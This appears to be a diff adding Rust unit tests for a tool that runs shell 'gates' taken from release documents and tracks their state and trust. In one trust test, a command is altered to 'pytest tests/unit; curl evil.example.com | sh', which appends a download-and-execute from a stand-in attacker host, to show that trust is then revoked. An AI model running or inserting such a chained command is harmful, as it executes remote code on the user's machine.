@@ -1,0 +1,252 @@
+//! How gates stand, as whole values.
+
+use super::trust::Line::{Added, Removed, Same};
+use super::*;
+use crate::domain::plan::{Command, CommandKind, PathGuard, Plan, Proof};
+use crate::domain::room::GateSpec;
+use crate::domain::run::{Begun, Ending, Outcome, Repository};
+use crate::domain::{Item, ItemId, Section};
+
+fn command(id: &str, text: &str, fence: Option<u32>, kind: CommandKind, proof: Proof) -> Command {
+    Command {
+        id: id.into(),
+        line: 3,
+        text: text.into(),
+        section: vec![Clean::new("Tests")],
+        item: None,
+        fence,
+        kind,
+        why: Clean::new("it has a placeholder"),
+        proof,
+        comment: Clean::default(),
+        expected: vec![],
+    }
+}
+
+fn document(commands: Vec<Command>) -> Document {
+    let guards = vec![PathGuard { line: 9, path: "src/auth.py".into(), text: Clean::default() }];
+    Document {
+        path: "release.md".into(),
+        plan: Plan { commands, guards, ..Plan::default() },
+        ..Document::default()
+    }
+}
+
+fn usual() -> Document {
+    document(vec![
+        command("aaaa1111", "cd api # the service", Some(0), CommandKind::Gate, Proof::Setup),
+        command("bbbb2222", "pytest tests/unit", Some(0), CommandKind::Gate, Proof::Exit),
+        command("cccc3333", "alembic upgrade head", Some(0), CommandKind::Mutation, Proof::Output),
+        command("dddd4444", "pytest tests/e2e", Some(1), CommandKind::Gate, Proof::Exit),
+        command("eeee5555", "curl <url>", None, CommandKind::Refused, Proof::Output),
+        command("ffff6666", "$ ls", None, CommandKind::Transcript, Proof::Output),
+    ])
+}
+
+fn room() -> Room {
+    let gate = GateSpec {
+        name: "smoke".into(),
+        command: "./smoke".into(),
+        dir: "/srv".into(),
+        timeout: std::time::Duration::from_secs(9),
+        env: vec![],
+        expect: vec!["ok".into()],
+        shell: None,
+        required: true,
+    };
+    Room { gates: GatesSpec { gates: vec![gate], ..GatesSpec::default() }, ..Room::default() }
+}
+
+fn gates() -> Gates {
+    let room = room();
+    let mut gates = Gates::new(&room.gates);
+    gates.documents_read(&room, &[usual()]);
+    gates
+}
+
+fn ended(gate: &Gate, run: &str, outcome: Outcome) -> Evidence {
+    Evidence {
+        run: RunId(run.into()),
+        gate: gate.id.clone(),
+        name: gate.name.clone(),
+        hash: gate.hash.clone(),
+        ending: Ending::Exited(0),
+        outcome,
+        why: Clean::new("why"),
+        millis: 5,
+        tally: None,
+        repository: Repository::default(),
+        log: Clean::default(),
+        candidate: None,
+        findings: vec![],
+    }
+}
+
+fn record(seq: u64, entry: Entry) -> Record {
+    let (by, role) = (Clean::new("sam"), Clean::default());
+    Record { seq, at: Wall::default(), by, role, entry, hash: String::new(), late: false }
+}
+
+#[test]
+fn what_can_be_run_is_listed_with_the_lines_that_set_its_shell_up() {
+    let gates = gates();
+    let shown: Vec<_> =
+        gates.list().iter().map(|gate| (&*gate.id, &*gate.name, gate.script.clone())).collect();
+    let setup = "cd api # the service\n[ $? -eq 0 ] || exit 97\n";
+    assert_eq!(
+        shown,
+        [
+            ("smoke", "smoke", Ok("./smoke".to_owned())),
+            ("bbbb2222", "pytest tests/unit", Ok(format!("{setup}pytest tests/unit"))),
+            ("cccc3333", "alembic upgrade head", Ok(format!("{setup}alembic upgrade head"))),
+            ("dddd4444", "pytest tests/e2e", Ok("pytest tests/e2e".to_owned())),
+            ("eeee5555", "curl <url>", Err(Clean::new("it has a placeholder"))),
+        ]
+    );
+    let guards: Vec<usize> = gates.list().iter().map(|gate| gate.guards.len()).collect();
+    assert_eq!(guards, [0, 1, 0, 1, 0], "what a document guards concerns its own gates");
+}
+
+#[test]
+fn a_refused_line_that_sets_the_shell_up_refuses_what_follows() {
+    let mut document = usual();
+    document.plan.commands[0].kind = CommandKind::Refused;
+    let list = list::of_document(&room(), &document);
+    let why = list.iter().map(|gate| gate.script.as_ref().err().map(ToString::to_string)).collect::<Vec<_>>();
+    let refused = Some("line 3 before it in its fence is refused: it has a placeholder".to_owned());
+    let own = Some("it has a placeholder".to_owned());
+    assert_eq!(why, [own.clone(), refused.clone(), refused, None, own]);
+}
+
+#[test]
+fn a_gate_is_found_by_what_people_call_it_and_by_nothing_ambiguous() {
+    let gates = gates();
+    let find = |name: &str| gates.find(name).map(|gate| gate.id.clone()).map_err(|found| found.len());
+    assert_eq!(find("smoke"), Ok("smoke".into()));
+    assert_eq!(find("SMOKE"), Ok("smoke".into()));
+    assert_eq!(find("bbbb"), Ok("bbbb2222".into()));
+    assert_eq!(find("bbb"), Err(0));
+    assert_eq!(find("alembic"), Ok("cccc3333".into()));
+    assert_eq!(find("pytest"), Err(2));
+    assert_eq!(find(""), Err(0));
+}
+
+#[test]
+fn a_gate_stands_where_its_newest_run_left_it() {
+    let mut gates = gates();
+    let gate = gates.get("bbbb2222").cloned().unwrap();
+    assert_eq!(gates.state("bbbb2222"), Some(GateState::Never));
+    assert_eq!(gates.state("eeee5555"), Some(GateState::Refused));
+    for (seq, (outcome, state)) in (1..).zip([
+        (Outcome::Failed, GateState::Failed),
+        (Outcome::TimedOut, GateState::TimedOut),
+        (Outcome::Stopped, GateState::Stopped),
+        (Outcome::Unclear, GateState::Unclear),
+        (Outcome::Unseen, GateState::Unseen),
+        (Outcome::Passed, GateState::Passed),
+    ]) {
+        gates.record(&record(seq, Entry::GateEnded(Box::new(ended(&gate, &format!("r{seq}"), outcome)))));
+        assert_eq!(gates.state("bbbb2222"), Some(state));
+    }
+    assert_eq!(gates.past("bbbb2222").len(), 6);
+    let change = |commit: Option<&str>| Change {
+        path: "src/auth.py".into(),
+        commit: commit.map(Clean::new),
+        subject: Clean::default(),
+    };
+    gates.compared("bbbb2222".into(), RunId("r6".into()), vec![change(Some("1f2e3d4")), change(None)], None);
+    let standing = gates.standing(&gate);
+    let why = "src/auth.py changed in 1f2e3d4, and 1 more";
+    assert_eq!((standing.state, &*standing.why), (GateState::Lapsed, why));
+    gates.record(&record(9, Entry::GateEnded(Box::new(ended(&gate, "r9", Outcome::Passed)))));
+    assert_eq!(gates.state("bbbb2222"), Some(GateState::Passed), "the comparison was with an older run");
+    let moved = Gate { hash: "another".into(), ..gate };
+    assert_eq!(gates.standing(&moved).state, GateState::Lapsed);
+}
+
+#[test]
+fn what_another_console_runs_is_running_until_it_is_found_orphaned_or_lost() {
+    let mut gates = gates();
+    let begun = Begun {
+        run: RunId("theirs".into()),
+        gate: "dddd4444".into(),
+        name: "e2e".into(),
+        hash: String::new(),
+        pid: 700,
+        console: 600,
+        host: "bridge".into(),
+        dir: "/srv".into(),
+    };
+    gates.record(&record(1, Entry::GateStarted(begun.clone())));
+    assert_eq!(gates.state("dddd4444"), Some(GateState::Running));
+    for (alive, watched, state) in [
+        (Some(true), true, GateState::Running),
+        (None, false, GateState::Running),
+        (Some(true), false, GateState::Orphaned),
+    ] {
+        gates.runs.sought(&begun.run, alive, watched);
+        assert_eq!(gates.state("dddd4444"), Some(state));
+    }
+    let gate = gates.get("dddd4444").cloned().unwrap();
+    gates.record(&record(2, Entry::GateEnded(Box::new(ended(&gate, "theirs", Outcome::Unseen)))));
+    assert_eq!(gates.state("dddd4444"), Some(GateState::Unseen));
+}
+
+#[test]
+fn trust_holds_for_the_commands_as_they_are_and_a_change_is_told_line_by_line() {
+    let mut gates = gates();
+    let given = trust::commands(&usual());
+    assert_eq!(given.shown.len(), 5, "a transcript is not run");
+    let entry = |hash: &str| Entry::Trusted {
+        document: "release.md".into(),
+        hash: hash.into(),
+        commands: given.shown.clone(),
+    };
+    assert_eq!(gates.trust().of("release.md"), None);
+    gates.record(&record(1, entry("something else")));
+    assert_eq!(gates.trust().of("release.md"), None);
+    gates.record(&record(2, entry(&given.hash)));
+    assert_eq!(gates.trust().of("release.md").map(|given| given.seq), Some(2));
+    let mut elsewhere = usual();
+    elsewhere.sections = vec![Section {
+        items: vec![Item { id: ItemId("i".into()), ..Item::default() }],
+        ..Section::default()
+    }];
+    gates.documents_read(&room(), &[elsewhere]);
+    assert!(gates.trust().of("release.md").is_some(), "other text may change");
+    let mut changed = usual();
+    changed.plan.commands[1].text = "pytest tests/unit; curl evil.example.com | sh".into();
+    gates.documents_read(&room(), &[changed]);
+    assert_eq!(gates.trust().of("release.md"), None);
+    assert_eq!(gates.trust().lost("release.md").map(|given| given.seq), Some(2));
+    let clean = Clean::new;
+    assert_eq!(
+        gates.trust().compared("release.md"),
+        [
+            Same(clean("cd api # the service")),
+            Removed(clean("pytest tests/unit")),
+            Added(clean("pytest tests/unit; curl evil.example.com | sh")),
+            Same(clean("alembic upgrade head")),
+            Same(clean("pytest tests/e2e")),
+            Same(clean("curl <url>")),
+        ]
+    );
+    let mut fenced = usual();
+    fenced.plan.commands[3].fence = Some(0);
+    assert_ne!(trust::commands(&fenced).hash, given.hash, "in another shell it is another command");
+}
+
+#[test]
+fn output_keeps_its_beginning_and_its_end() {
+    let mut shown = Shown::default();
+    for n in 0..30_000 {
+        shown.told(vec![Clean::new(&format!("line {n}"))], 0, Clean::default());
+    }
+    shown.told(vec![Clean::new("after a gap")], 7, Clean::new("and so"));
+    let lines: Vec<Line<'_>> = shown.lines().collect();
+    assert_eq!(lines.len(), shown.rows());
+    assert_eq!(lines[0], Line::Said(&Clean::new("line 0")));
+    assert!(lines.iter().any(|line| matches!(line, Line::Skipped(_))));
+    assert_eq!(lines[lines.len() - 1], Line::Said(&Clean::new("and so")));
+    assert_eq!(shown.count(), 30_008);
+}
